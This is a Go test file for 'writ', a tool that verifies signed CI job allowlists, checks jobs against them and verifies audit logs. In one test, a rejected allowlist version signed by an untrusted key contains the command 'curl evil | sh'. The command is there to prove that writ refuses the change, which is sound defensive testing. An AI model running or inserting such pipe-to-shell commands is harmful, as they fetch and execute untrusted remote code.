package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gitlab.com/writ-ci/writ/internal/audit"
	"gitlab.com/writ-ci/writ/internal/companion/gitlabtest"
	"gitlab.com/writ-ci/writ/internal/testkeys"
)

// writJSON runs writ with -o json and decodes its standard output, which
// must be exactly one JSON object whose header agrees with the exit code.
func writJSON(t *testing.T, wantCode int, wantSchema string, args ...string) map[string]any {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, &out, &errb)
	var m map[string]any
	dec := json.NewDecoder(&out)
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("writ %s: stdout is not JSON: %v\n%s\nstderr: %s", strings.Join(args, " "), err, out.String(), errb.String())
	}
	if dec.More() {
		t.Fatalf("writ %s: more than one JSON value on stdout", strings.Join(args, " "))
	}
	if code != wantCode || m["exit_code"] != float64(code) || m["schema"] != wantSchema || m["outcome"] != outcomeByCode(code).Name {
		t.Fatalf("writ %s: exit %d (want %d), header schema=%v outcome=%v exit_code=%v\nstderr: %s", strings.Join(args, " "),
			code, wantCode, m["schema"], m["outcome"], m["exit_code"], errb.String())
	}
	return m
}

func TestVersionCommand(t *testing.T) {
	out, code := writ(t, "--version")
	if code != 0 || !strings.HasPrefix(out, "writ ") {
		t.Fatalf("--version: %d %q", code, out)
	}
	out, code = writ(t, "version")
	if code != 0 || !strings.Contains(out, "commit ") || !strings.Contains(out, "built with go") {
		t.Fatalf("version: %d %q", code, out)
	}
	m := writJSON(t, 0, "writ/version/v1", "version", "-o", "json")
	if m["version"] == "" || m["go"] == "" || m["platform"] == "" {
		t.Fatalf("version JSON: %v", m)
	}
}

// verifyWorld is an environment trusting alice, with an allowlist
// repository whose v1 she signed.
type verifyWorld struct {
	repo         *testkeys.Repo
	alice, carol *testkeys.SSH
	env, cfg     string
}

func newVerifyWorld(t *testing.T) *verifyWorld {
	w := &verifyWorld{alice: testkeys.SSHKey(t, "alice@example.com"), carol: testkeys.SSHKey(t, "carol@example.com"), repo: testkeys.GitRepo(t), env: t.TempDir()}
	writeFile(t, filepath.Join(w.env, "allowed_signers"), w.alice.AllowedSignersLine("")+"\n")
	w.cfg = w.config(t, "config.toml", 1)
	writeFile(t, filepath.Join(w.repo.Path, "allowlist.yaml"), allowlistText(1, "make build"))
	w.repo.Commit(t, nil, "v1", w.alice)
	return w
}

func (w *verifyWorld) config(t *testing.T, name string, threshold int) string {
	p := filepath.Join(w.env, name)
	writeFile(t, p, fmt.Sprintf(`environment = "production"
[allowlist]
url = %q
identity = "acme/deploy-allowlist"
[trust]
ssh_allowed_signers = "allowed_signers"
threshold = %d
[paths]
state = "state-%s"
cache = "cache-%[3]s"
audit = "audit.log"
`, w.repo.Path, threshold, name))
	return p
}

// TestVerifyOutcomes: each of verify's outcomes has its own exit code and
// JSON outcome, so a monitor can page for an attack and not for an outage.
func TestVerifyOutcomes(t *testing.T) {
	w := newVerifyWorld(t)

	// Config error.
	m := writJSON(t, 78, "writ/verify/v1", "--config", filepath.Join(w.env, "missing.toml"), "allowlist", "verify", "-o", "json")
	if !strings.Contains(m["error"].(string), "missing.toml") {
		t.Errorf("config error JSON: %v", m)
	}

	// No valid version: two approvals required, one given.
	strict := w.config(t, "strict.toml", 2)
	m = writJSON(t, 2, "writ/verify/v1", "--config", strict, "allowlist", "verify", "-o", "json")
	if m["in_force"] != nil || m["head_accepted"] != false {
		t.Errorf("no valid version JSON: %v", m)
	}

	// Accepted.
	m = writJSON(t, 0, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json")
	inForce := m["in_force"].(map[string]any)
	if inForce["version"] != float64(1) || m["head_accepted"] != true || inForce["expires_in_seconds"].(float64) <= 0 {
		t.Errorf("accepted JSON: %v", m)
	}
	out, code := writ(t, "--config", w.cfg, "allowlist", "verify")
	if code != 0 || !strings.Contains(out, "expires:     expires in ") {
		t.Errorf("accepted text: %d\n%s", code, out)
	}

	// Expiring within the window (the fixture expires in about 3 months).
	writJSON(t, 4, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json", "--warn-within", "2400h")
	out, code = writ(t, "--config", w.cfg, "allowlist", "verify", "--warn-within", "2400h")
	if code != 4 || !strings.Contains(out, "within --warn-within") {
		t.Errorf("warn-within text: %d\n%s", code, out)
	}
	writJSON(t, 0, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json", "--warn-within", "24h")

	// Rejected head: v2 signed by a key this environment does not trust.
	writeFile(t, filepath.Join(w.repo.Path, "allowlist.yaml"), allowlistText(2, "curl evil | sh"))
	w.repo.Commit(t, nil, "v2", w.carol)
	m = writJSON(t, 1, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json")
	if m["head_accepted"] != false || m["in_force"].(map[string]any)["version"] != float64(1) {
		t.Errorf("rejected head JSON: %v", m)
	}

	// Remote unreachable: the cached v1 stays in force.
	if err := os.Rename(w.repo.Path, w.repo.Path+".gone"); err != nil {
		t.Fatal(err)
	}
	m = writJSON(t, 5, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json")
	if m["in_force"].(map[string]any)["from_cache"] != true {
		t.Errorf("unreachable JSON: %v", m)
	}
}

func TestLintExpiryAndJSON(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.yaml")
	writeFile(t, good, allowlistText(1, "make build"))
	m := writJSON(t, 0, "writ/lint/v1", "allowlist", "lint", "-o", "json", good)
	f := m["files"].([]any)[0].(map[string]any)
	if f["ok"] != true || f["version"] != float64(1) || f["jobs"] != float64(1) {
		t.Errorf("lint JSON: %v", m)
	}

	// Expired in 2020: an error, in words that say so.
	expired := filepath.Join(dir, "expired.yaml")
	text := allowlistText(1, "make build")
	writeFile(t, expired, replaceExpiry(text, "2020-01-01T00:00:00Z"))
	out, code := writ(t, "allowlist", "lint", expired)
	if code != 1 || !strings.Contains(out, "expired") || !strings.Contains(out, "days ago (2020-01-01T00:00:00Z)") || strings.Contains(out, ": ok") {
		t.Errorf("expired lint: %d\n%s", code, out)
	}
	writJSON(t, 1, "writ/lint/v1", "allowlist", "lint", "-o", "json", expired)

	// Expiring in 5 days: a warning, exit 4.
	soon := filepath.Join(dir, "soon.yaml")
	writeFile(t, soon, replaceExpiry(text, time.Now().Add(5*24*time.Hour+time.Hour).UTC().Format(time.RFC3339)))
	out, code = writ(t, "allowlist", "lint", soon)
	if code != 0 || !strings.Contains(out, "warning: the version expires in 5 days") {
		t.Errorf("near-expiry lint: %d\n%s", code, out)
	}
	if out, code = writ(t, "allowlist", "lint", "--warn-within", "336h", soon); code != 4 {
		t.Errorf("near-expiry lint --warn-within: %d\n%s", code, out)
	}
	writJSON(t, 0, "writ/lint/v1", "allowlist", "lint", "-o", "json", "--warn-within", "72h", soon)
	m = writJSON(t, 4, "writ/lint/v1", "allowlist", "lint", "-o", "json", "--warn-within", "336h", soon)
	if w := m["files"].([]any)[0].(map[string]any)["warnings"]; w == nil {
		t.Errorf("near-expiry JSON lacks warnings: %v", m)
	}

	// Syntax errors carry their positions.
	bad := filepath.Join(dir, "bad.yaml")
	writeFile(t, bad, "schema: writ/v1\nversion: [\n")
	m = writJSON(t, 1, "writ/lint/v1", "allowlist", "lint", "-o", "json", bad)
	if errs := m["files"].([]any)[0].(map[string]any)["errors"].([]any); len(errs) == 0 {
		t.Errorf("bad JSON: %v", m)
	}
}

func replaceExpiry(text, at string) string {
	i := strings.Index(text, "expires: ")
	j := strings.Index(text[i:], "\n")
	return text[:i] + "expires: " + at + text[i+j:]
}

func TestDiffJSON(t *testing.T) {
	dir := t.TempDir()
	oldF, newF := filepath.Join(dir, "old.yaml"), filepath.Join(dir, "new.yaml")
	writeFile(t, oldF, allowlistText(1, "make build"))
	writeFile(t, newF, allowlistText(2, "make build deploy"))
	m := writJSON(t, 0, "writ/diff/v1", "allowlist", "diff", "-o", "json", oldF, newF)
	envs := m["environments"].([]any)
	if len(envs) != 1 || envs[0].(map[string]any)["environment"] != "production" || m["new_version"] != float64(2) {
		t.Fatalf("diff JSON: %v", m)
	}
	ch := envs[0].(map[string]any)["changed"].([]any)[0].(map[string]any)
	if ch["entry"] != "app-build-production" || !strings.Contains(fmt.Sprint(ch["changes"]), "make build deploy") {
		t.Errorf("diff JSON change: %v", ch)
	}
	bad := filepath.Join(dir, "bad.yaml")
	writeFile(t, bad, "schema: [\n")
	m = writJSON(t, 1, "writ/diff/v1", "allowlist", "diff", "-o", "json", oldF, bad)
	if m["error"] == nil {
		t.Errorf("diff of a broken file: %v", m)
	}
}

func TestCheckOutcomes(t *testing.T) {
	w := newVerifyWorld(t)
	payload := "../../executor/testdata/payload.json"
	// Cannot decide: this environment has never accepted a version.
	m := writJSON(t, 2, "writ/check/v1", "--config", w.cfg, "check", "--job", payload, "-o", "json")
	if !strings.Contains(m["error"].(string), "never accepted") {
		t.Errorf("cannot decide JSON: %v", m)
	}
	writJSON(t, 0, "writ/verify/v1", "--config", w.cfg, "allowlist", "verify", "-o", "json")
	// Refused: the payload's script differs.
	m = writJSON(t, 1, "writ/check/v1", "--config", w.cfg, "check", "--job", payload, "-o", "json")
	d := m["decision"].(map[string]any)
	if d["admitted"] != false || d["entry"] != "app-build-production" || len(d["failures"].([]any)) == 0 ||
		!strings.Contains(fmt.Sprint(m["suggested_entry"]), "name: app-build-production") {
		t.Errorf("refused JSON: %v", m)
	}
	// I/O: the payload file is missing — not a refusal, not "cannot decide".
	writJSON(t, 74, "writ/check/v1", "--config", w.cfg, "check", "--job", filepath.Join(w.env, "nope.json"), "-o", "json")
	out, code := writ(t, "--config", w.cfg, "check", "--job", filepath.Join(w.env, "nope.json"))
	if code != 74 || !strings.Contains(out, "no such file") {
		t.Errorf("missing payload text: %d %s", code, out)
	}
	// Config error.
	writJSON(t, 78, "writ/check/v1", "--config", filepath.Join(w.env, "missing.toml"), "check", "--job", payload, "-o", "json")
}

func TestAuditVerifyAndShow(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "audit.log")
	l := audit.Open(path)
	t0 := time.Date(2030, 1, 1, 12, 0, 0, 0, time.UTC)
	for i, ev := range []string{"admit", "outcome", "refuse", "allowlist-accept"} {
		job := fmt.Sprint(100 + i/2)
		if ev == "allowlist-accept" {
			job = ""
		}
		if _, err := l.Append(context.Background(), audit.Record{Time: t0.Add(time.Duration(i) * time.Hour), Event: ev, Job: job, Env: "production", Reason: "r" + ev}); err != nil {
			t.Fatal(err)
		}
	}
	m := writJSON(t, 0, "writ/audit-verify/v1", "audit", "verify", "-o", "json", path)
	if m["records"] != float64(4) || m["broken"] != nil {
		t.Errorf("verify JSON: %v", m)
	}

	m = writJSON(t, 0, "writ/audit-show/v1", "audit", "show", "-o", "json", "--job", "100", path)
	if recs := m["records"].([]any); len(recs) != 2 || recs[1].(map[string]any)["event"] != "outcome" {
		t.Errorf("show --job: %v", m)
	}
	m = writJSON(t, 0, "writ/audit-show/v1", "audit", "show", "-o", "json", "--event", "refuse,allowlist-accept", "--since", "2030-01-01T13:30:00Z", path)
	if recs := m["records"].([]any); len(recs) != 2 || recs[0].(map[string]any)["event"] != "refuse" {
		t.Errorf("show --event --since: %v", m)
	}
	m = writJSON(t, 0, "writ/audit-show/v1", "audit", "show", "-o", "json", "--until", "2030-01-01T12:30:00Z", path)
	if recs := m["records"].([]any); len(recs) != 1 {
		t.Errorf("show --until: %v", m)
	}
	out, code := writ(t, "audit", "show", "--job", "101", path)
	if code != 0 || !strings.Contains(out, "2030-01-01T14:00:00Z #3 refuse job=101 env=production reason=\"rrefuse\"") || strings.Contains(out, "admit") {
		t.Errorf("show text: %d\n%s", code, out)
	}

	// Missing file: an I/O error, not tampering.
	missing := filepath.Join(dir, "none.log")
	writJSON(t, 74, "writ/audit-verify/v1", "audit", "verify", "-o", "json", missing)
	out, code = writ(t, "audit", "verify", missing)
	if code != 74 || strings.Contains(out, "BROKEN") {
		t.Errorf("missing log: %d %s", code, out)
	}
	writJSON(t, 74, "writ/audit-show/v1", "audit", "show", "-o", "json", missing)

	// Tampering: exit 1, with the broken record named.
	data, _ := os.ReadFile(path)
	os.WriteFile(path, bytes.Replace(data, []byte("rrefuse"), []byte("rREFUSE"), 1), 0o600)
	m = writJSON(t, 1, "writ/audit-verify/v1", "audit", "verify", "-o", "json", path)
	if b := m["broken"].(map[string]any); b["line"] != float64(3) || m["records"] != float64(2) {
		t.Errorf("tampered JSON: %v", m)
	}
	m = writJSON(t, 1, "writ/audit-show/v1", "audit", "show", "-o", "json", path)
	if len(m["records"].([]any)) != 2 || m["broken"] == nil {
		t.Errorf("tampered show: %v", m)
	}
}

func TestReviewLocalJSON(t *testing.T) {
	repo := testkeys.GitRepo(t)
	writeFile(t, filepath.Join(repo.Path, "allowlist.yaml"), allowlistText(1, "make build"))
	repo.Commit(t, nil, "v1", nil)
	m := writJSON(t, 0, "writ/review/v1", "review", "--local", "--dir", repo.Path, "-o", "json")
	if r := m["report"].(map[string]any); r["lint_ok"] != true || r["version"] != float64(1) {
		t.Errorf("review JSON: %v", m)
	}
	// An expiry a month past fails --require expiry, in words that say so.
	writeFile(t, filepath.Join(repo.Path, "allowlist.yaml"), replaceExpiry(allowlistText(2, "make build"), time.Now().AddDate(0, -1, 0).UTC().Format(time.RFC3339)))
	repo.Commit(t, nil, "v2", nil)
	m = writJSON(t, 1, "writ/review/v1", "review", "--local", "--dir", repo.Path, "--require", "expiry", "-o", "json")
	if f := fmt.Sprint(m["failures"]); !strings.Contains(f, "expired") || !strings.Contains(f, "days ago") || strings.Contains(f, "within") {
		t.Errorf("review expiry failure: %v", m["failures"])
	}
	writJSON(t, 64, "writ/review/v1", "review", "--local", "--dir", repo.Path, "--require", "bogus", "-o", "json")
}

func TestReconcileAndProposeJSON(t *testing.T) {
	const token = "glpat-TEST-0123456789"
	s := gitlabtest.New(t, token)
	app := s.AddProject("acme/web", "main")
	at := time.Now().Add(-time.Hour).UTC()
	s.AddRunnerJob(5, &gitlabtest.RunnerJob{ID: 301, Name: "deploy", Status: "success", Ref: "main", CreatedAt: at, Project: app})
	dir := t.TempDir()
	tok := filepath.Join(dir, "token")
	writeFile(t, tok, token)
	log := filepath.Join(dir, "audit.log")
	writeFile(t, log, "")
	args := []string{"reconcile", "--gitlab-url", s.URL, "--token-file", tok, "--runner", "5", "--since", "24h", "--audit-log", log, "--environment", "production"}
	// GitLab ran a job writ never saw: a finding.
	m := writJSON(t, 1, "writ/reconcile/v1", append(args, "-o", "json")...)
	if len(m["discrepancies"].([]any)) != 1 {
		t.Errorf("reconcile JSON: %v", m)
	}
	writJSON(t, 1, "writ/reconcile/v1", append(args, "--json")...)
	writJSON(t, 64, "writ/reconcile/v1", "reconcile", "--since", "yesterday", "--runner", "5", "--audit-log", log, "-o", "json")

	// propose without a token: a config error, in JSON.
	t.Setenv("WRIT_GITLAB_TOKEN", "")
	t.Setenv("GITLAB_TOKEN", "")
	writJSON(t, 78, "writ/propose/v1", "propose", "--gitlab-url", s.URL, "--project", "acme/web", "--ref", "main",
		"--environment", "production", "--allowlist-project", "acme/allowlist", "-o", "json")
}

// TestEveryReportingCommandHasJSON: the commands the operator's contract
// names all take -o json.
func TestEveryReportingCommandHasJSON(t *testing.T) {
	for _, r := range reporters() {
		if !strings.HasPrefix(r.schema(), "writ/") || !strings.HasSuffix(r.schema(), "/v1") {
			t.Errorf("%T: schema %q", r, r.schema())
		}
	}
}

func TestFlatten(t *testing.T) {
	for in, want := range map[string]string{
		"writ cannot decide: writ cannot decide: no valid version": "writ cannot decide: no valid version",
		"a: b: c":    "a: b: c",
		"x: x: x: y": "x: y",
		"writ: no valid version: no valid version: expired": "writ: no valid version: expired",
	} {
		if got := dedupe(in); got != want {
			t.Errorf("dedupe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLogLevelValidatedAndLogFileLoud(t *testing.T) {
	if out, code := writ(t, "--log-level", "bogus", "version"); code != 64 || !strings.Contains(out, "log-level") {
		t.Errorf("--log-level bogus: %d %s", code, out)
	}
	w := newVerifyWorld(t)
	data, _ := os.ReadFile(w.cfg)
	writeFile(t, w.cfg, string(data)+"[log]\nfile = \"/nonexistent-dir/writ.log\"\n")
	out, code := writ(t, "--config", w.cfg, "allowlist", "verify")
	if code != 78 || !strings.Contains(out, "log.file") {
		t.Errorf("unopenable log.file: %d %s", code, out)
	}
}

func TestConfigCheck(t *testing.T) {
	w := newVerifyWorld(t)
	for _, d := range []string{"state-config.toml", "cache-config.toml", "state-config.toml/builds"} {
		os.MkdirAll(filepath.Join(w.env, d), 0o700)
	}
	m := writJSON(t, 0, "writ/config-check/v1", "--config", w.cfg, "config", "check", "-o", "json")
	if !strings.Contains(m["effective_toml"].(string), `ssh_allowed_signers = "`+filepath.Join(w.env, "allowed_signers")+`"`) {
		t.Errorf("effective config does not resolve paths against the config file: %v", m["effective_toml"])
	}
	out, code := writ(t, "--config", w.cfg, "config", "check")
	if code != 0 || !strings.Contains(out, "fetch_timeout = \"30s\"") || !strings.Contains(out, "[ok     ] trust") {
		t.Errorf("config check text: %d\n%s", code, out)
	}

	// A root key limited to namespaces="git": its approvals would be ignored.
	writeFile(t, filepath.Join(w.env, "allowed_signers"), w.alice.AllowedSignersLine("git")+"\n")
	m = writJSON(t, 4, "writ/config-check/v1", "--config", w.cfg, "config", "check", "-o", "json")
	if !strings.Contains(fmt.Sprint(m["checks"]), "its approvals do not count") {
		t.Errorf("namespaces warning: %v", m["checks"])
	}

	// A typo: config error with a suggestion.
	data, _ := os.ReadFile(w.cfg)
	writeFile(t, w.cfg, strings.Replace(string(data), "threshold", "treshold", 1))
	out, code = writ(t, "--config", w.cfg, "config", "check")
	if code != 78 || !strings.Contains(out, "did you mean trust.threshold?") {
		t.Errorf("typo: %d %s", code, out)
	}
}

// TestProposeCheckJSON: propose --check against a fake GitLab whose
// allowlist lacks the deploy job's entry: change needed (exit 3), with the
// proposal in JSON, and nothing written to GitLab.
func TestProposeCheckJSON(t *testing.T) {
	const token = "glpat-TEST-0123456789"
	s := gitlabtest.New(t, token)
	app := s.AddProject("acme/web", "main")
	s.Commit(app, "main", "init", map[string][]byte{".gitlab-ci.yml": []byte("# see merged_yaml\n")})
	env := "production"
	s.SetLint(app, "main", &gitlabtest.Lint{Valid: true,
		MergedYAML: "---\ndeploy:\n  stage: deploy\n  tags:\n  - production\n  script:\n  - ./deploy.sh\n  environment: production\n",
		Jobs:       []gitlabtest.LintJob{{Name: "deploy", Stage: "deploy", Script: []string{"./deploy.sh"}, TagList: []string{"production"}, Environment: &env, When: "on_success"}}})
	al := s.AddProject("acme/deploy-allowlist", "main")
	s.Commit(al, "main", "init", map[string][]byte{"allowlist.yaml": []byte(allowlistText(1, "make build"))})
	tok := filepath.Join(t.TempDir(), "token")
	writeFile(t, tok, token)
	args := []string{"propose", "--gitlab-url", s.URL, "--token-file", tok, "--project", "acme/web", "--ref", "main",
		"--environment", "production", "--allowlist-project", "acme/deploy-allowlist", "--signers", "devs", "--check", "-o", "json"}
	t.Setenv("GITLAB_CI", "")
	m := writJSON(t, 3, "writ/propose/v1", args...)
	if m["status"] != "would-change" || m["base_version"] != float64(1) || !strings.Contains(fmt.Sprint(m["jobs"]), "deploy") || m["diff"] == "" {
		t.Fatalf("propose --check JSON: %v", m)
	}
	if len(s.MergeRequestsOf(al)) != 0 {
		t.Fatal("propose --check opened a merge request")
	}
}
